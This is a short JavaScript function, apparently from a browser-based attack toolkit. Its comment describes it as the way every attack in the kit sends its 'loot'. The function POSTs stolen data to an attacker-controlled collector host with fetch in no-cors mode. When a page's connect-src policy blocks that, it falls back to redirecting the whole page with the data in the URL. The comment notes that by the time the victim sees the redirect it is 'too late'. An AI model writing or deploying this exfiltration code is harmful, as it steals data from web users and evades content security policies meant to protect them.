/*
 * How every attack here sends its loot. `fetch` is quiet, but a page's policy
 * (`connect-src`) may forbid it. No policy forbids a script to lead the whole
 * page elsewhere: the victim sees that, and by then it is too late.
 */
async function send(loot) {
  const body = JSON.stringify(loot);
  try {
    await fetch(`${TARGET.collector}/loot`, { method: 'POST', mode: 'no-cors', body });
  } catch {
    location.assign(`${TARGET.collector}/loot?${encodeURIComponent(body)}`);
  }
}
